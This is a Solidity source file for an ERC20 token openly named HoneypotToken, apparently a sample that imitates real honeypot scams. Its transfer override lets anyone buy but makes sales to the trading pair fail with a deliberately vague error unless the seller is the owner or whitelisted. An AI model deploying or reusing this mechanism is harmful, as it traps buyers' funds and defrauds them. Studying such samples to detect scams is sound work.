// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./lib/ERC20Core.sol";
import "./lib/Owned.sol";

/// Buys (pair -> user) work; sells (user -> pair) revert unless the seller is the owner or
/// whitelisted. The owner adds liquidity through the router, which moves tokens owner -> pair.
contract HoneypotToken is ERC20, PairAware {
    mapping(address => bool) public isWhitelisted;

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        _setMetadata(name_, symbol_);
        _setOwner(msg.sender);
        _mint(msg.sender, supply);
    }

    function setWhitelisted(address account, bool allowed) external onlyOwner {
        isWhitelisted[account] = allowed;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && pair != address(0)) {
            // Deliberately vague message, as real honeypots use.
            require(from == _owner || isWhitelisted[from], "TRANSFER_FAILED");
        }
        super._transfer(from, to, amount);
    }
}
